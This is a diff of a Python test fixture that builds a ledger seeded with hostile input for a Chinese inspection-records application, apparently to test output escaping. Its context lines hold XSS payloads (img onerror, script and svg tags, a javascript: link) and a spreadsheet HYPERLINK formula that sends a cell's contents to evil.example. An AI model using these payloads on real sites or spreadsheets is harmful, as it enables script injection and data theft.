@@ -28,7 +28,7 @@ IMG = f"<img src=x onerror={FLAG}>"
 SCRIPT = f"<script>{FLAG}</script>"
 SVG = f"<svg onload={FLAG}>"
 BREAKER = f"'\"><img src=x onerror={FLAG}>"
-LINK = f"<a href=\"javascript:{FLAG}\">点击查看</a>"
+LINK = f'<a href="javascript:{FLAG}">点击查看</a>'
 HTML_PAYLOADS = (IMG, SCRIPT, SVG, BREAKER, LINK)
 FORMULAS = (
     '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
@@ -92,7 +92,16 @@ def hostile_records() -> list:
         for i, (uid, name) in enumerate(UNITS.items())
     ]
     rnd = Round(
-        ROUND_ID, ROUND_NAME, "七届", 11, "special", "city", "市本级", D(2026, 10, 8), D(2026, 11, 1), D(2026, 11, 10)
+        ROUND_ID,
+        ROUND_NAME,
+        "七届",
+        11,
+        "special",
+        "city",
+        "市本级",
+        D(2026, 10, 8),
+        D(2026, 11, 1),
+        D(2026, 11, 10),
     )
     records: list = [*units, rnd]
     records += [Inspection(f"IH{i:05d}", ROUND_ID, u.id, TEAM, public_reports=i) for i, u in enumerate(units)]
@@ -114,6 +123,7 @@ def hostile_records() -> list:
             )
         )
     for i, (title, subject, post) in enumerate(CLUES):
+        case = {"disposal": "case", "disposed_on": D(2026, 11, 5), "case_opened_on": D(2026, 11, 5)}
         records.append(
             Clue(
                 f"CH{i:05d}",
@@ -124,6 +134,7 @@ def hostile_records() -> list:
                 post,
                 f"{IMG}群众反映",
                 D(2026, 10, 25),
+                **(case if i == 0 else {}),  # a case opened in 2026Q4: its title is in the quarterly report
             )
         )
     for i, title in enumerate(ASSIGNMENTS):
@@ -131,16 +142,19 @@ def hostile_records() -> list:
     return records
 
 
-def build_hostile_ledger(path: str | Path) -> Path:
-    """The sample ledger with the corpus added (and one deadline extended with a hostile reason)."""
+def build_hostile_ledger(path: str | Path, *, sample: bool = True) -> Path:
+    """The sample ledger with the corpus added (and one deadline extended with a hostile reason);
+    ``sample=False``: the corpus alone, in a new ledger."""
     path = Path(path)
-    build_sample(path)
-    with Ledger.write(path, by=BY) as tx:
+    if sample:
+        build_sample(path)
+    with Ledger.write(path, by=BY, create=not sample) as tx:
         for record in hostile_records():
             tx.add(record, at=_day_of(record))
         tx.extend_deadline(
             "PH00000", D(2026, 12, 15), at=D(2026, 11, 12), why=f"{IMG}经局长张大山批准延期，出纳孙二娘经办"
         )
+        tx.set_status("PH00000", "rectified", at=D(2026, 11, 14), why=f"{SVG}整改完成")  # on the 一单
     return path
 
 
